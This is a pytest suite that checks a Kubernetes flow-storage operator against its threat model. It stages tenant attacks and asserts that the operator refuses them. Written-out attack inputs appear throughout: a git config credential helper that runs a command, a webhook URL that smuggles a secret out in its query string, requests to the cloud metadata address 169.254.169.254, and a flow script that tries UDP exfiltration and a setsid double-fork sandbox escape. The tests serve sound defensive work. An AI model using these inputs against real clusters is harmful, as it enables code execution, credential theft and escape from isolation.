"""The threat model (docs/security.md), tried for real: each test plays a role — a tenant who may
write FlowStorages and StoredFlows, a flow's author — against the real operator process and the
real API server, tries an attack of issue 20, and shows it fail with a condition that says what
to change (as `kubectl describe` shows it). The operators here run with the operator's own
defaults (no test allowances), watching the test's namespace only.
"""

from __future__ import annotations

import json
import os
import socket
import tempfile
import textwrap
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from flowstore import client
from tests.helpers.kube import apply, condition, kubectl, wait_for, wait_ready, wait_reason
from tests.helpers.manifests import flow_storage, inline_flow, manifests, s3_storage, secret
from tests.helpers.operator import OperatorProcess, local_dir
from tests.helpers.webhook_server import EXTRA_SECRET, WebhookServer

TOKEN = "canary-tenant-token-2e7b-never-elsewhere"


@pytest.fixture
def start_operator(crds: None, kube_env: dict[str, str], own_operators_only: None, tmp_path: Path,
                   namespace: str) -> Iterator[Callable[..., OperatorProcess]]:
    """`start_operator(*flags, local_root=True)`: the operator with its own defaults plus
    `flags`, serving the test's namespace only; stopped afterwards."""
    started: list[OperatorProcess] = []

    def start(*flags: str, local_root: bool = True) -> OperatorProcess:
        op = OperatorProcess(tmp_path / f"operator-{len(started)}", dict(os.environ))
        op.log_dir.mkdir()
        op.start("--namespace", namespace, *flags, local_root=local_root, test_policy=False)
        started.append(op)
        return op

    yield start
    for op in started:
        op.stop()


@pytest.fixture
def webhook() -> Iterator[WebhookServer]:
    with WebhookServer(token=TOKEN) as server:
        yield server


def docs(*parts: str) -> list[str]:
    """Several manifests (YAML or JSON), applied one after the other by apply_all."""
    return list(parts)


def apply_all(parts: list[str]) -> None:
    for part in parts:
        apply(part)


def describe(kind: str, namespace: str, name: str) -> str:
    return kubectl("describe", kind, name, "-n", namespace).stdout


def refused(namespace: str, name: str, reason: str, kind: str = "storedflow") -> dict[str, Any]:
    """Ready=False and Stalled with `reason`; its message, as `kubectl describe` shows it."""
    obj = wait_reason(namespace, name, reason, kind=kind, timeout=60)
    assert condition(obj, "Stalled").get("reason") == reason, obj["status"]
    text = " ".join(describe(kind, namespace, name).split())
    assert reason in text and " ".join(condition(obj)["message"].split())[:60] in text
    return obj


def local_storage(namespace: str, directory: str | Path, name: str = "local") -> str:
    return manifests(flow_storage(namespace, name, "local", {"directory": str(directory)}))


# ---------------------------------------------------------------------- a tenant, Local storage
def test_local_storage_needs_a_root_and_stays_in_its_namespace(start_operator: Callable[..., OperatorProcess],
                                                                namespace: str) -> None:
    op = start_operator(local_root=False)
    apply_all(docs(local_storage(namespace, local_dir(namespace, "flows")),
               inline_flow(namespace, "etl", "etl", storage="local")))
    message = condition(refused(namespace, "local", "LocalStorageDisabled", kind="flowstorage"))["message"]
    assert "--local-root" in message and "localStorage.enabled" in message
    op.stop()

    start_operator()
    other = local_dir("someone-else", "flows")
    git_cache = Path(tempfile.gettempdir()) / "flowstore-git"
    for name, directory in (("theirs", other), ("cache", git_cache), ("temp", tempfile.gettempdir())):
        apply(local_storage(namespace, directory, name=name))
        message = condition(refused(namespace, name, "OutsideLocalRoot", kind="flowstorage"))["message"]
        assert str(local_dir(namespace)) in message
    assert not other.exists()
    kubectl("delete", "flowstorage", "theirs", "cache", "temp", "-n", namespace)
    ready = wait_ready(namespace, "etl", timeout=60)
    assert ready["status"]["location"].startswith(f"{local_dir(namespace, 'flows')}/")


def test_planting_a_git_config_through_local_storage(start_operator: Callable[..., OperatorProcess],
                                                     namespace: str, git_server: dict[str, str],
                                                     tmp_path: Path) -> None:
    """The reported attack: a Local directory over the operator's temp directory, script-mode
    StoredFlows whose keys land in its git cache (each file valid Python: HEAD, a config with a
    credential helper, files that make objects/ and refs/), then a Git FlowStorage of that URL
    without credentials, so git asks its helpers. Refused at the Local FlowStorage; nothing
    lands in the cache; the helper never runs."""
    from flowstore.storage.git.plain import REPO_CONFIG, Git
    from tests.helpers.gitrepo import LocalGitRepo

    marker = tmp_path / "pwned"
    repo = LocalGitRepo(Path(git_server["root"]))
    repo.commit({"flows/etl.py": b"from flowstore.flow import Flow\nflow = Flow('etl', lambda: 1)\n"})
    url = f"{git_server['url']}/{repo.name}.git"
    cache = Git(url=url).cache_dir.relative_to(tempfile.gettempdir())  # where the operator's cache goes
    planted = {"HEAD": "ref: refs/heads/main\n", "config": f'[credential]\nhelper = "!touch {marker}"\n',
               "objects/x.py": "x = 1\n", "refs/x.py": "x = 1\n"}
    start_operator()
    apply(local_storage(namespace, tempfile.gettempdir(), name="over-temp"))
    for i, (key, text) in enumerate(planted.items()):
        compile(text, key, "exec")
        apply(json.dumps({"apiVersion": "flowstore.dev/v1alpha1", "kind": "StoredFlow",
                          "metadata": {"name": f"plant-{i}", "namespace": namespace},
                          "spec": {"storageRef": {"name": "over-temp"}, "flowName": f"plant {i}",
                                   "storedAsScript": True, "key": f"{cache}/{key}", "source": {"inline": text}}}))
    refused(namespace, "over-temp", "OutsideLocalRoot", kind="flowstorage")
    apply(manifests(flow_storage(namespace, "repo", "git", {"url": url, "path": "flows/etl.py"})))
    apply(json.dumps({"apiVersion": "flowstore.dev/v1alpha1", "kind": "StoredFlow",
                      "metadata": {"name": "etl", "namespace": namespace},
                      "spec": {"storageRef": {"name": "repo"}, "flowName": "etl", "source": {"path": "flows/etl.py"}}}))
    wait_reason(namespace, "etl", "AuthFailed", timeout=60)  # git asked for credentials: none were given
    for i in range(len(planted)):
        wait_for("storedflow", namespace, f"plant-{i}", lambda o: condition(o).get("status") == "False", timeout=60)
    where = Path(tempfile.gettempdir()) / cache
    assert not (where / "objects" / "x.py").exists() and not (where / "refs" / "x.py").exists()
    assert not (where / "config").exists() or (where / "config").read_text() == REPO_CONFIG
    assert not marker.exists()


# ---------------------------------------------------------------------- a tenant, Secrets
def test_only_secrets_opted_in_are_used(start_operator: Callable[..., OperatorProcess], namespace: str,
                                        webhook: WebhookServer) -> None:
    """A FlowStorage names a Secret of its namespace it was never meant to have (here a database
    password) and templates it into a URL of its choice: the operator refuses the Secret."""
    start_operator("--allow-private-endpoints")
    apply_all(docs(manifests(
        secret(namespace, "db-password", {"PASSWORD": TOKEN}, opt_in=False),
        flow_storage(namespace, "exfil", "webhook", {
            "buildRequest": {"method": "POST", "url": f"{webhook.url}/flows?p=${{PASSWORD}}"},
            "getFlowRequest": {"method": "GET", "url": f"{webhook.url}/flows/${{response.json.id}}"},
            "credentialsSecretRef": {"name": "db-password"}}),
    ), inline_flow(namespace, "etl", "etl", storage="exfil")))
    message = condition(refused(namespace, "etl", "SecretNotAllowed"))["message"]
    assert f"kubectl label secret db-password -n {namespace} flowstore.dev/allow=true" in message
    assert TOKEN not in json.dumps(wait_for("storedflow", namespace, "etl", lambda o: True))
    assert webhook.hits == {}


# ---------------------------------------------------------------------- a tenant, Webhook requests
def test_webhook_requests_reach_neither_metadata_nor_private_addresses(
        start_operator: Callable[..., OperatorProcess], namespace: str, webhook: WebhookServer) -> None:
    start_operator()
    apply_all(docs(manifests(
        secret(namespace, "token", {"TOKEN": TOKEN}),
        flow_storage(namespace, "metadata", "webhook", {
            "buildRequest": {"method": "GET", "url": "http://169.254.169.254/latest/meta-data/iam/"},
            "getFlowRequest": {"method": "GET", "url": "http://169.254.169.254/${response.json.id}"}}),
        flow_storage(namespace, "private", "webhook", {
            "buildRequest": {"method": "POST", "url": f"{webhook.url}/flows",
                             "headers": {"Authorization": "Bearer ${TOKEN}"}},
            "getFlowRequest": {"method": "GET", "url": f"{webhook.url}/flows/${{response.json.id}}"},
            "credentialsSecretRef": {"name": "token"}}),
    ), inline_flow(namespace, "meta", "meta", storage="metadata"),
        inline_flow(namespace, "internal", "internal", storage="private")))
    assert "never connects to" in condition(refused(namespace, "meta", "EndpointNotAllowed"))["message"]
    message = condition(refused(namespace, "internal", "EndpointNotAllowed"))["message"]
    assert "--allow-private-endpoints" in message and "webhook.allowPrivateEndpoints" in message
    assert webhook.hits == {}


def test_a_build_response_never_reaches_status(start_operator: Callable[..., OperatorProcess], namespace: str,
                                               webhook: WebhookServer) -> None:
    start_operator("--allow-private-endpoints")
    apply_all(docs(manifests(
        secret(namespace, "token", {"TOKEN": TOKEN}),
        flow_storage(namespace, "hook", "webhook", {
            "buildRequest": {"method": "POST", "url": f"{webhook.url}/flows?extra=1",
                             "headers": {"Authorization": "Bearer ${TOKEN}"}},
            "getFlowRequest": {"method": "GET", "url": f"{webhook.url}/flows/${{response.json.id}}",
                               "headers": {"Authorization": "Bearer ${TOKEN}"}},
            "credentialsSecretRef": {"name": "token"}}),
    ), inline_flow(namespace, "etl", "etl", storage="hook")))
    status = wait_ready(namespace, "etl", timeout=60)["status"]
    flow_id = next(iter(webhook.bodies))
    assert status["artifact"]["storageState"] == {"buildResponse": {"status": 201, "json": {"id": flow_id}}}
    assert status["storage"]["buildResponse"] == {"status": 201, "json": {"id": flow_id}}
    everything = json.dumps([status, wait_ready(namespace, "hook", kind="flowstorage", timeout=30)])
    assert EXTRA_SECRET not in everything and TOKEN not in everything


# ---------------------------------------------------------------------- a tenant, spec.build
def test_builder_jobs_need_the_admins_leave(start_operator: Callable[..., OperatorProcess], namespace: str,
                                            s3_bucket: str, s3_endpoint: str) -> None:
    """Without --enable-build-jobs no Job is made; with it, only allowed images, accounts,
    tolerations and node selectors. Refused before the API is asked for anything."""
    op = start_operator()
    apply_all(docs(s3_storage(namespace, s3_bucket, s3_endpoint),
               inline_flow(namespace, "etl", "etl", build={"image": "registry.example.com/team/runtime:1"})))
    assert "--enable-build-jobs" in condition(refused(namespace, "etl", "BuildNotAllowed"))["message"]
    op.stop()
    start_operator("--enable-build-jobs", "--build-image", "registry.example.com/team/*")
    control_plane = {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}
    for name, build, fragment in (
            ("image", {"image": "docker.io/library/python:3.11"}, "--build-image"),
            ("account", {"image": "registry.example.com/team/runtime:1", "serviceAccountName": "deployer"},
             "--build-service-account"),
            ("toleration", {"image": "registry.example.com/team/runtime:1", "tolerations": [control_plane]},
             "--build-toleration-key"),
            ("selector", {"image": "registry.example.com/team/runtime:1",
                          "nodeSelector": {"node-role.kubernetes.io/control-plane": ""}}, "--build-node-selector-key")):
        apply(inline_flow(namespace, name, name, build=build))
        assert fragment in condition(refused(namespace, name, "BuildNotAllowed"))["message"], name
    # the first flow asks for nothing more than the allowed image: its Job exists; no other has one
    jobs = kubectl("get", "jobs", "-n", namespace, "-o",
                   "jsonpath={.items[*].metadata.labels.flowstore\\.dev/storedflow}")
    assert set(jobs.stdout.split()) <= {"etl"}


# ---------------------------------------------------------------------- a flow's author
ESCAPE = """
import os, socket, time
from flowstore.flow import Flow
seen = {{}}
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfiltrated", ("127.0.0.1", {port}))
    seen["udp"] = "sent"
except OSError as exc:
    seen["udp"] = type(exc).__name__
read, write = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(write, str(os.getpid()).encode())
        time.sleep(60)
        os._exit(0)
    os._exit(0)
seen["grandchild"] = int(os.read(read, 32))
escape = Flow("escape", lambda: seen)
"""


def test_a_flow_cannot_leave_the_operators_sandbox(start_operator: Callable[..., OperatorProcess], namespace: str,
                                                   s3_bucket: str, s3_endpoint: str) -> None:
    op = start_operator()
    deadline = time.monotonic() + 30  # the operator probes its kernel once kopf has started
    while True:
        metrics = urllib.request.urlopen(op.metrics_url, timeout=5).read().decode()  # noqa: S310 - loopback
        if "flowstore_sandbox_landlock_abi 0.0" not in metrics or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    for feature in ("filesystem", "network", "signals", "processes"):
        assert f'flowstore_sandbox_confined{{feature="{feature}"}} 1.0' in metrics, feature
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(1)
    try:
        script = textwrap.dedent(ESCAPE.format(port=listener.getsockname()[1]))
        apply_all(docs(s3_storage(namespace, s3_bucket, s3_endpoint), json.dumps({
            "apiVersion": "flowstore.dev/v1alpha1", "kind": "StoredFlow",
            "metadata": {"name": "escape", "namespace": namespace},
            "spec": {"storageRef": {"name": "store"}, "flowName": "escape", "source": {"inline": script}}})))
        wait_ready(namespace, "escape", timeout=60)
        seen = client.load_flow("escape", namespace).run()
        with pytest.raises(TimeoutError):
            listener.recvfrom(100)
    finally:
        listener.close()
    assert seen["udp"] == "PermissionError"
    assert not Path(f"/proc/{seen['grandchild']}").exists(), "a setsid() grandchild outlived the build"


# ---------------------------------------------------------------------- whoever may write the status
def test_a_status_writer_cannot_aim_the_operators_deletions(start_operator: Callable[..., OperatorProcess],
                                                           namespace: str, webhook: WebhookServer) -> None:
    """Someone who may patch storedflows/status (not the spec) forges a retired record naming
    another team's object at the same service, and a store "under way" with their idempotency key:
    the operator deletes and replays nothing of it, and says so in Events."""
    start_operator("--allow-private-endpoints")
    url = f"{webhook.url}/flows"
    auth = {"Authorization": "Bearer ${TOKEN}"}
    apply_all(docs(manifests(
        secret(namespace, "token", {"TOKEN": TOKEN}),
        flow_storage(namespace, "hook", "webhook", {
            "buildRequest": {"method": "POST", "url": url, "headers": auth},
            "getFlowRequest": {"method": "GET", "url": url + "/${response.json.id}", "headers": auth},
            "deleteRequest": {"method": "DELETE", "url": url + "/${response.json.id}", "headers": auth},
            "credentialsSecretRef": {"name": "token"}}, deletionPolicy="Delete", retention={"minAge": "0s"}),
    ), inline_flow(namespace, "etl", "etl", storage="hook")))
    wait_ready(namespace, "etl", timeout=60)
    import requests

    victim = requests.post(url, data=b"another team's flow", timeout=5,
                           headers={"Authorization": f"Bearer {TOKEN}", "Idempotency-Key": '"their-key"'}).json()["id"]
    forged = {"status": {
        "retired": [{"location": "etl", "supersededAt": "2026-01-01T00:00:00Z",
                     "storageState": {"buildResponse": {"status": 201, "json": {"id": victim}}}}],
        "storing": {"inputsDigest": "sha256:" + "e" * 64, "location": "etl", "idempotencyKey": "their-key"}}}
    posts = [m for m, _, _ in webhook.log].count("POST")
    kubectl("patch", "storedflow", "etl", "-n", namespace, "--subresource=status", "--type=merge",
            "-p", json.dumps(forged))
    kubectl("annotate", "storedflow", "etl", "-n", namespace, "flowstore.dev/requested-at=forged")
    wait_for("storedflow", namespace, "etl", lambda o: not {"retired", "storing"} & set(o.get("status") or {}),
             60, "to drop the forged records")
    events = kubectl("get", "events", "-n", namespace, "--field-selector", "involvedObject.name=etl",
                     "-o", "json").stdout
    reasons = {(e["reason"], e["type"]) for e in json.loads(events)["items"]}
    assert {("CleanupFailed", "Warning"), ("RecordIgnored", "Warning")} <= reasons, reasons
    assert victim in webhook.bodies, "the operator deleted another team's object"
    assert [m for m, _, _ in webhook.log].count("POST") == posts, "the operator replayed a key status chose"
    assert "no seal of this operator" in describe("storedflow", namespace, "etl")
